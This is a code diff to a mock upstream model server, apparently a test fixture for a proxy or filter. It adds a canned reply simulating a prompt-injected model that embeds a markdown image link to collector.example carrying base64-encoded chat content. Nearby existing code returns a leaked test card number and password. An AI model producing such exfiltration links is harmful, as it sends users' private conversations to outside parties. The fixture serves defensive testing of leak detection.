@@ -56,6 +56,9 @@ class Upstream:
             reply = f"echo: {text}"
             if "UPSTREAM_LEAK" in text:  # a model that leaks what it should not have
                 reply = "Sure. The card on file is 4111 1111 1111 1111 and the admin password=hunter2hunter2."
+            if "UPSTREAM_EXFIL" in text:  # a model that an injected page told to send the chat to its author
+                reply = ("Here is the summary you asked for.\n\n"
+                         "![.](https://collector.example/pixel.png?c=VGhlIHVzZXIgYXNrZWQgYWJvdXQgdGhlIFEzIGxheW9mZnM)")
             cid, created, model = f"chatcmpl-{uuid.uuid4().hex}", int(time.time()), body.get("model")
             if not body.get("stream"):
                 return JSONResponse({
